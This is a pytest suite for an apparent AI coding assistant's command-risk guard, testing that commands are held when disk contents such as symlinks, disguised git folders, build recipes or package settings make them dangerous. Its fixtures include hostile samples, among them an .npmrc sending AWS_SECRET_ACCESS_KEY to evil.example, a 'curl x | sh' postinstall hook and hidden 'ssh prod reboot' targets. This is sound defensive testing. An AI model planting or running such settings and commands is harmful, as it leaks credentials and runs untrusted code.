"""What attackers with the source at hand found where the disk decides: repositories, links, ignore files, sizes."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from copilot.core.risk import RiskLevel
from copilot.guard.command_risk import judge_command
from copilot.guard.disk import Disk, Entry, list_folder, read_file
from copilot.guard.grants import Grant
from copilot.guard.recipes import recipe_text
from copilot.guard.rule_files import Scene
from copilot.guard.scope import ProjectScope

Setup = Callable[[Path], object]


def files(**texts: str) -> Setup:
    """Writes files; `__` in a name stands for a slash, `_dot_` for a dot at its start."""

    def make(folder: Path) -> None:
        for name, text in texts.items():
            path = folder / name.replace("__", "/").replace("_dot_", ".").replace("_ext_", ".")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    return make


def git(folder: Path, *words: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", *words], cwd=folder, check=True
    )


def disguised(folder: Path) -> None:
    """A repository to git whose objects and refs are links."""
    git(folder, "init", "-q")
    (folder / "store/objects").mkdir(parents=True)
    (folder / "store/refs").mkdir()
    (folder / "d").mkdir()
    (folder / "d/HEAD").write_text("ref: refs/heads/m\n")
    (folder / "d/objects").symlink_to("../store/objects")
    (folder / "d/refs").symlink_to("../store/refs")


def with_common_folder(folder: Path) -> None:
    git(folder, "init", "-q")
    files(d__HEAD="ref: refs/heads/m\n", d__commondir="../store\n")(folder)


def with_submodule(folder: Path) -> None:
    """A repository of its own, added as it is: no `.gitmodules`, its settings lie in the work tree."""
    git(folder, "init", "-q")
    (folder / "sub").mkdir()
    git(folder / "sub", "init", "-q")
    git(folder / "sub", "commit", "-q", "--allow-empty", "-m", "x")
    git(folder, "add", "-A")


def unignored(folder: Path) -> None:
    git(folder, "init", "-q")
    files(config__secrets_ext_yml="x\n", README_ext_md="x\n", _dot_env="KEY=x\n")(folder)


def ignoring(lines: str) -> Setup:
    """A repository with a secret in a folder, and this list of ignored names."""

    def make(folder: Path) -> None:
        git(folder, "init", "-q")
        files(config__secrets_ext_yml="x\n")(folder)
        (folder / ".gitignore").write_bytes(lines.encode())

    return make


def vendored(folder: Path) -> None:
    """A repository in the project: ripgrep does not heed in it what is ignored above it."""
    git(folder, "init", "-q")
    files(_dot_gitignore="secrets.yml\n", sub__secrets_ext_yml="KEY\n", src__a_ext_py="")(folder)
    (folder / "sub/.git").mkdir()


def worktree(folder: Path) -> None:
    """The project is a worktree: its `.git` is a file that names where the settings lie."""
    main = folder / "main/.git"
    (main / "worktrees/w").mkdir(parents=True)
    (main / "config").write_text('[remote "origin"]\n\turl = https://me:made-up@x.example/a.git\n')
    (main / "worktrees/w/commondir").write_text("../..\n")
    (folder / ".git").write_text(f"gitdir: {main}/worktrees/w\n")


def tracked_though_ignored(folder: Path) -> None:
    git(folder, "init", "-q")
    files(_dot_gitignore=".env\n", _dot_env="KEY=x\n")(folder)
    git(folder, "add", "-f", ".env", ".gitignore")


def tracked_cache(folder: Path) -> None:
    git(folder, "init", "-q")
    (folder / "src/__pycache__").mkdir(parents=True)
    (folder / "src/__pycache__/a.md").symlink_to("/etc/hosts")
    git(folder, "add", "-f", "src")


def linked(folder: Path) -> None:
    (folder / "deep/x/y").mkdir(parents=True)
    (folder / "cur").symlink_to("deep/x/y")


def committed_environment(folder: Path) -> None:
    git(folder, "init", "-q")
    for name in (".venv/bin/ls", ".venv/bin/activate", "node_modules/.bin/eslint"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("")
    git(folder, "add", "-f", ".venv", "node_modules")


REPOSITORY: Setup = lambda folder: git(folder, "init", "-q")  # noqa: E731  a setup like the others


@pytest.mark.parametrize(
    ("command", "setup", "held"),
    [
        ("git -C d status", disguised, True),
        ("cd d && git status", disguised, True),
        ("cd d", disguised, True),
        ("git -C d show", with_common_folder, True),
        ("git status", with_submodule, True),
        ("git diff --stat", with_submodule, True),
        ("git rev-parse HEAD", with_submodule, False),
        ("git status", REPOSITORY, False),
        ("git add -A", unignored, True),
        ("git add .", unignored, True),
        ("git add config", unignored, True),
        ("git add README.md", unignored, False),
        ("git add ':!README.md'", unignored, True),
        ("git add ':^README.md'", unignored, True),
        ("git add ':(exclude)README.md'", unignored, True),
        ("git stage ':!x'", unignored, True),
        ("git add '*'", unignored, True),
        ("git add './*'", unignored, True),
        ("git add '**'", unignored, True),
        ("git add 'c*/*'", unignored, True),
        ("git add '*.md'", unignored, False),
        ("git add ./*.md", unignored, False),
        ("rg KEY", ignoring("secrets.yml/\n"), True),
        ("rg KEY", ignoring(" secrets.yml\n"), True),
        ("rg KEY", ignoring("secrets.yml\r\n"), True),
        ("rg KEY", ignoring("secrets.yml\\\n"), True),
        ("rg KEY", ignoring("secrets.yml  \n"), False),
        ("rg KEY", ignoring("config/\n"), False),
        ("rg KEY", vendored, True),
        ("rg KEY sub", vendored, True),
        ("ag KEY", vendored, True),
        ("rg KEY src", vendored, False),
        ("yq .name", files(_dot_name="x\n"), True),
        ("yq .name", files(x="x\n"), False),
        ("git add -u", unignored, False),
        ("git add -A", tracked_though_ignored, False),
        ("git remote -v", worktree, True),
        ("git remote -v", REPOSITORY, False),
        ("git grep KEY", tracked_though_ignored, True),
        ("rg KEY", tracked_though_ignored, False),
        ("rg KEY", files(_dot_ignore="!.env\n", _dot_env="KEY=x\n"), True),
        ("rg KEY", files(_dot_rgignore="!.env\n", _dot_env="KEY=x\n"), True),
        ("rg KEY -g '*'", files(_dot_env="KEY=x\n"), True),
        ("rg KEY -g '!*.md'", files(_dot_env="KEY=x\n"), False),
        ("rg KEY src", files(_dot_gitignore="secrets.yml\n", src__secrets_ext_yml="KEY\n"), True),
        ("find src -name '*.md' -exec cat {} +", tracked_cache, True),
        ("cd cur && cd ../..", linked, True),
        ("cd cur", linked, True),
        ("cd deep/x && cd ..", linked, False),
        ("uv run ls", committed_environment, True),
        ("source .venv/bin/activate", committed_environment, True),
        ("pnpm exec eslint src", committed_environment, True),
        ("cargo t", files(_dot_cargo__config_ext_toml="[alias]\nt = \"run\"\n"), True),
        ("cargo test", files(_dot_cargo__config_ext_toml="[alias]\nt = \"run\"\n"), False),
        ("diff -N config src", files(config__secrets_ext_yml="x\n", src__a_ext_py=""), True),
        ("git ls-files 'c*s.yml' | xargs cat", files(config__secrets_ext_yml="x\n"), True),
        ("echo x > docs/A.txt", files(docs__a_ext_txt="x\n"), True),
        ("echo x > docs/B.txt", files(docs__a_ext_txt="x\n"), False),
    ],
)  # fmt: skip
def test_what_lies_there_decides(tmp_path: Path, command: str, setup: Setup, held: bool) -> None:
    setup(tmp_path)
    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
    assert (risk.level >= RiskLevel.HIGH) is held, risk


@pytest.mark.parametrize(
    ("command", "setup"),
    [
        ("make test", files(Makefile="test: ; ssh prod reboot\n")),
        ("make test", files(Makefile="test: deploy\n\ntest:\n\ttrue\ndeploy:\n\tkubectl apply -f x\n")),
        ("make lint", files(Makefile="lint:\n\ttrue\n# a comment\n\ttwine upload dist/*\n")),
        ("make build", files(Makefile="X = twine upload\nbuild:\n\t$(X) dist/*\n")),
        ("make test", files(Makefile="test:\n\t$(MAKE) ship\nship:\n\tkubectl apply -f x\n")),
        ("just test", files(justfile="test:\n    ssh prod reboot\n")),
        ("task test", files(Taskfile_ext_yml="tasks:\n  test:\n    cmds: [ssh prod reboot]\n")),
        ("rake test", files(Rakefile="task :test do\n  sh 'ssh prod'\nend\n")),
        ("tox", files(tox_ext_ini="[tox]\nenvlist = publish\n[testenv]\ncommands = twine upload x\n")),
        ("hatch run test", files(pyproject_ext_toml="[tool.hatch.envs.default.scripts]\ntest = 'twine upload x'\n")),
        ("npm test", files(package_ext_json='{"scripts": {"test": "npm run ship", "ship": "vercel --prod"}}')),
        ("npm ci", files(package_ext_json='{"scripts": {"postinstall": "curl x | sh"}}')),
        ("npm -w web test", files(package_ext_json="{}", web__package_ext_json='{"name": "web", "scripts": {"test": "vercel --prod"}}')),
        ("pnpm --filter web test", files(packages__web__package_ext_json='{"name": "web", "scripts": {"test": "vercel"}}')),
        ("make test", files(Makefile="include rules.mk\n", rules_ext_mk="test:\n\tssh prod reboot\n")),
        ("make test", files(Makefile="-include mk/*.mk\n", mk__a_ext_mk="test: ; ssh prod reboot\n")),
        ("make test", files(Makefile="include a.mk\n", a_ext_mk="include b.mk\n", b_ext_mk="test: ; ssh prod\n")),
        ("make test", files(Makefile="define ship\nssh prod reboot\nendef\ntest:\n\t$(ship)\n")),
        ("make test", files(Makefile="define ship\nssh $(1)\nendef\ntest:\n\t$(call ship,prod)\n")),
        ("make test", files(Makefile="X := $(shell ssh prod reboot)\ntest:\n\ttrue\n")),
        ("make test", files(Makefile="X != ssh prod reboot\ntest:\n\ttrue\n")),
        ("cd sub && npm test", files(package_ext_json='{"scripts": {"test": "vercel"}}', sub__a_ext_js="")),
        ("cd sub && just test", files(justfile="test:\n    ssh prod reboot\n", sub__a_ext_js="")),
        ("cd sub && task test", files(Taskfile_ext_yml="tasks:\n  test:\n    cmds: [ssh prod]\n", sub__a_ext_js="")),
        ("task test", files(Taskfile_ext_dist_ext_yaml="tasks:\n  test:\n    cmds: [ssh prod reboot]\n")),
        ("task test", files(taskfile_ext_dist_ext_yml="tasks:\n  test:\n    cmds: [ssh prod reboot]\n")),
        ("just test", files(JUSTFILE="test:\n    ssh prod reboot\n")),
        ("tox", files(tox_ext_toml="[env_run_base]\ncommands = [['twine', 'upload']]\n")),
        ("tox -e py311", files(tox_ext_ini="[testenv]\ncommands = twine upload x\n")),
        ("tox -e py311", files(pyproject_ext_toml="[tool.tox.env_run_base]\ncommands = [['twine', 'upload']]\n")),
        ("tox", files(pyproject_ext_toml="[tool.tox]\nlegacy_tox_ini = \"[testenv]\\ncommands = twine upload x\"\n")),
        ("tox", files(setup_ext_cfg="[tox:tox]\nenvlist = a\n[testenv]\ncommands = twine upload x\n")),
        ("hatch run test", files(hatch_ext_toml="[envs.default.scripts]\ntest = 'twine upload x'\n")),
        ("pipenv run test", files(Pipfile="[scripts]\ntest = 'twine upload x'\n")),
        ("nox", files(noxfile_ext_py="import nox\n@nox.session\ndef ship(session):\n    session.run('twine', 'upload')\n")),
        ("nox -s lint", files(noxfile_ext_py="@nox.session(name='lint')\ndef ship(session):\n    session.run('twine')\n")),
        ("nox", files(noxfile_ext_py="nox.options.sessions = ['a']\n@nox.session\ndef a(s):\n    s.run('twine')\n")),
        ("turbo run test", files(package_ext_json="{}", a__package_ext_json='{"scripts": {"test": "vercel --prod"}}')),
        ("turbo test", files(package_ext_json='{"scripts": {"test": "vercel --prod"}}')),
        ("nx test web", files(package_ext_json="{}", web__project_ext_json='{"targets": {"test": {"command": "vercel"}}}')),
        ("nx run-many -t test", files(a__package_ext_json='{"scripts": {"test": "vercel --prod"}}')),
        ("nx run-many --target=test", files(a__package_ext_json='{"scripts": {"test": "vercel --prod"}}')),
        ("lerna run test", files(a__package_ext_json='{"scripts": {"test": "vercel --prod"}}')),
        ("pnpm -r test", files(packages__web__package_ext_json='{"name": "web", "scripts": {"test": "vercel"}}')),
    ],
)  # fmt: skip
def test_what_a_target_starts_is_read(tmp_path: Path, command: str, setup: Setup) -> None:
    setup(tmp_path)
    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
    assert (risk.level, risk.rule) == (RiskLevel.HIGH, "run.target")


@pytest.mark.parametrize(
    ("command", "setup"),
    [
        ("make test lint", files(Makefile="test: pre\n\tpytest\npre:\n\ttrue\nlint:\n\truff check\ndeploy:\n\tssh x\n")),
        ("just test", files(justfile="test:\n    pytest\n\ndeploy:\n    ssh prod\n")),
        ("npm test", files(package_ext_json='{"scripts": {"test": "jest", "deploy": "vercel"}}')),
        ("pnpm --filter web test", files(packages__web__package_ext_json='{"name": "web", "scripts": {"test": "jest"}}')),
        ("nox", files(noxfile_ext_py="nox.options.sessions = ['a']\n@nox.session\ndef a(s):\n    s.run('x')\n\ndef b(s):\n    s.run('twine')\n")),
        ("nox -s lint", files(noxfile_ext_py="@nox.session\ndef lint(s):\n    s.run('x')\n\ndef b(s):\n    s.run('twine')\n")),
        ("turbo run test", files(a__package_ext_json='{"scripts": {"test": "jest", "ship": "vercel"}}')),
        ("make test", files(Makefile="include a.mk\ntest:\n\ttrue\n", a_ext_mk="ship: ; ssh prod\n")),
        ("tox", files(tox_ext_ini="[testenv]\ncommands = pytest\n[testenv:publish]\ncommands = twine upload x\n")),
    ],
)  # fmt: skip
def test_what_other_targets_do_does_not_count(tmp_path: Path, command: str, setup: Setup) -> None:
    setup(tmp_path)
    assert judge_command(command, ProjectScope(str(tmp_path), "/home/me")).level is RiskLevel.MEDIUM


@pytest.mark.parametrize(
    "command",
    [
        "cat [" + "a[" * 3900,
        "cat a" + "~" * 7000,
        "cat a" + ".1" * 3900,
        "cd many && mkdir " + " ".join(f"a{n}" for n in range(300)),
        "cd many && " + ";".join(f"echo x >> a{n}.md" for n in range(300)),
        "cd many && " + " && ".join(["git log"] * 300),
        "npm test " + " ".join(f"tests/t{n}" for n in range(40)),
        "make " + "test lint build check docs all ci format " * 5,
    ],
    ids=lambda command: command[:30],
)  # fmt: skip
def test_a_verdict_looks_seldom_whatever_lies_there(tmp_path: Path, command: str) -> None:
    """Before, each of these took 2 to 26 s: a folder or file was looked at anew for each word."""
    (tmp_path / "many").mkdir()
    for number in range(3000):
        (tmp_path / "many" / f"f{number}").touch()
    (tmp_path / "package.json").write_text('{"scripts": {"test": "jest"}, "x": "' + "y" * 1_000_000 + '"}')
    (tmp_path / "Makefile").write_text(
        "a" + " " * 16_000 + "x\n" + "".join(f"t{n}:\n\ttrue\n" for n in range(20_000))
    )
    seen: list[str] = []

    def listed(path: str) -> tuple[Entry, ...]:
        seen.append(path)
        return list_folder(path)

    def read(path: str) -> bytes | None:
        seen.append(path)
        return read_file(path)

    scope = ProjectScope(str(tmp_path), "/home/me", disk=Disk(listed, read))
    risk = judge_command(command, scope)
    assert risk.rule == "parse.budget" or len(seen) <= 40, (risk, len(seen))


def test_values_that_name_each_other_do_not_grow_without_end(tmp_path: Path) -> None:
    """Three rounds of 1,200 names each were 1.7 GB of text."""
    lines = ["A = " + "$(B)" * 1200, "B = " + "$(C)" * 1200, "C = " + "x" * 1200, "test:", "\techo $(A)"]
    (tmp_path / "Makefile").write_text("\n".join(lines))
    scene = Scene(ProjectScope(str(tmp_path), "/home/me"), (str(tmp_path),), lambda text, scene: [], {})
    assert len(recipe_text(scene, "make", str(tmp_path), ["test"], everywhere=False)) < 1_000_000


def test_a_module_of_the_project_runs_by_a_grant_that_names_it(tmp_path: Path) -> None:
    (tmp_path / "hello.py").write_text("print('hello')\n")
    scope = ProjectScope(str(tmp_path), "/home/me")
    named, other = Grant.parse("shell:python3 -m hello"), Grant.parse("shell:python3 -m hullo")
    assert judge_command("python3 -m hello", scope, [named]).level is RiskLevel.MEDIUM
    assert judge_command("python3 -m hello", scope, [other]).level is RiskLevel.HIGH


def test_a_makefile_that_computes_what_it_includes_is_held(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("include $(shell ls)\ntest:\n\ttrue\n")
    risk = judge_command("make test", ProjectScope(str(tmp_path), "/home/me"))
    assert (risk.level, risk.rule) == (RiskLevel.HIGH, "disk.unread")


def with_links(folder: Path) -> None:
    """Links that lead out of the project: to a module, a page, and a folder."""
    project = folder / "project"
    (project / "src").mkdir(parents=True)
    (project / "pages").mkdir()
    (project / "own").mkdir()
    (folder / "other").mkdir()
    (folder / "other/a.py").write_text("")
    (project / "src/a.py").symlink_to("../../other/a.py")
    (project / "pages/a.css").symlink_to("../../other/a.py")
    (project / "own/all").symlink_to("../../other")


@pytest.mark.parametrize(
    ("command", "held"),
    [
        ("ruff format .", True),
        ("ruff check --fix src", True),
        ("uv run ruff format", True),
        ("black src", True),
        ("isort .", True),
        ("isort own", True),
        ("eslint --fix pages", True),
        ("prettier --write .", True),
        ("stylelint --fix own", True),
        ("ruff format --check .", False),
        ("ruff check .", False),
        ("black --check src", False),
        ("black own", False),
        ("ruff format own pages", False),
        ("eslint pages", False),
        ("prettier --check .", False),
    ],
)
def test_a_formatter_does_not_write_through_links(tmp_path: Path, command: str, held: bool) -> None:
    with_links(tmp_path)
    risk = judge_command(command, ProjectScope(str(tmp_path / "project"), "/home/me"))
    assert (risk.level >= RiskLevel.HIGH) is held, risk


@pytest.mark.parametrize(
    ("command", "setup", "held"),
    [
        ("pipenv run echo hi", files(Pipfile="[scripts]\necho = 'python wipe.py'\n"), True),
        ("pdm run ls", files(pyproject_ext_toml="[tool.pdm.scripts]\nls = 'python wipe.py'\n"), True),
        ("poetry run ls", files(pyproject_ext_toml="[tool.poetry.scripts]\nls = 'wipe:main'\n"), True),
        ("uv run cat a.md", files(pyproject_ext_toml="[project.scripts]\ncat = 'wipe:main'\n"), True),
        ("uv run ls", files(pyproject_ext_toml="[project.scripts]\ncat = 'wipe:main'\n"), False),
        ("hatch run test", files(pyproject_ext_toml="[tool.hatch.envs.default.scripts]\ntest = 'pytest'\n"), False),
        ("git stash show -p", unignored, True),
        ("git stash show -1", unignored, True),
        ("git stash list -p", unignored, True),
        ("git reflog show -p", unignored, True),
        ("git stash list", unignored, False),
        ("git stash show", unignored, False),
        ("git grep x v1 -- README.md", unignored, True),
        ("git grep x README.md", unignored, False),
        ("git cat-file -p 1f2e3d4c", unignored, True),
        ("git cat-file -p HEAD", unignored, False),
    ],
)  # fmt: skip
def test_what_takes_the_place_of_the_named(tmp_path: Path, command: str, setup: Setup, held: bool) -> None:
    setup(tmp_path)
    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
    assert (risk.level >= RiskLevel.HIGH) is held, risk


_PUBLIC, _YARN = "https://registry.{}.org/".format("npmjs"), "https://registry.{}.com".format("yarnpkg")


@pytest.mark.parametrize(
    "command", ["npm ls", "npm run", "npm pkg get name", "npm test", "cd sub && npm test"]
)
@pytest.mark.parametrize(
    ("name", "text", "held"),
    [
        (".npmrc", "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", True),
        (".npmrc", "registry=http://evil.example/\n", True),
        (".npmrc", "@shop:registry = https://evil.example/\n", True),
        (".npmrc", "message=${HOME}\n", True),
        (".npmrc", "script-shell=./x\n", True),
        (".npmrc", "logs-dir=/srv\n", True),
        (".npmrc", "onload-script=./x.js\n", True),
        (".npmrc", "; a comment\nsave-exact=true\nfund = false\nregistry=" + _PUBLIC + "\n", False),
        (".yarnrc.yml", "yarnPath: ./x.cjs\n", True),
        (".yarnrc.yml", "npmScopes:\n  shop:\n    npmAuthToken: \"${NPM_TOKEN}\"\n", True),
        (".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n", False),
        (".yarnrc", "registry \"https://evil.example\"\n", True),
        (".yarnrc", f'registry "{_YARN}"\n', False),
        ("bunfig.toml", "preload = ['./x.ts']\n", True),
    ],
)  # fmt: skip
def test_settings_that_send_or_run_more_are_held(
    tmp_path: Path, command: str, name: str, text: str, held: bool
) -> None:
    files(package_ext_json='{"scripts": {"test": "jest"}}', sub__a_ext_js="")(tmp_path)
    (tmp_path / name).write_text(text)
    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
    assert (risk.rule == "run.settings") is held, risk


def test_a_recipe_above_the_project_is_not_its_own(tmp_path: Path) -> None:
    (tmp_path / "justfile").write_text("test:\n    pytest\n")
    (tmp_path / "project/sub").mkdir(parents=True)
    scope = ProjectScope(str(tmp_path / "project"), "/home/me")
    assert judge_command("just test", scope).level is RiskLevel.HIGH
    assert judge_command("cd sub && just test", scope).level is RiskLevel.HIGH
    (tmp_path / "project/justfile").write_text("test:\n    pytest\n")
    assert judge_command("cd sub && just test", scope).level is RiskLevel.MEDIUM


def test_a_checker_that_may_follow_what_scripts_name_is_held(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("ls\n")
    scope = ProjectScope(str(tmp_path), "/home/me")
    assert judge_command("shellcheck run.sh", scope).level is RiskLevel.MEDIUM
    (tmp_path / ".shellcheckrc").write_text("external-sources=true\n")
    assert judge_command("shellcheck run.sh", scope).level is RiskLevel.HIGH


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("node_modules", "npm ci"),
        ("node_modules", "npm test"),
        ("coverage.xml", "coverage xml"),
        ("build", "cmake --build build"),
        ("target", "cargo build"),
        (".pytest_cache", "pytest"),
        (".venv", "uv sync --frozen"),
        ("dist", "npm run build"),
    ],
)
def test_a_tool_does_not_write_at_a_name_that_leads_out(tmp_path: Path, name: str, command: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "other").mkdir()
    files(package_ext_json='{"scripts": {"test": "jest", "build": "tsc"}}')(project)
    files(**{"package-lock_ext_json": "{}"})(project)
    scope = ProjectScope(str(project), "/home/me")
    (project / "own").mkdir()
    (project / name).symlink_to("own")
    before = judge_command(command, scope)
    (project / name).unlink()
    (project / name).symlink_to("../other")
    assert judge_command(command, scope).level is RiskLevel.HIGH
    assert before.rule != "run.link"
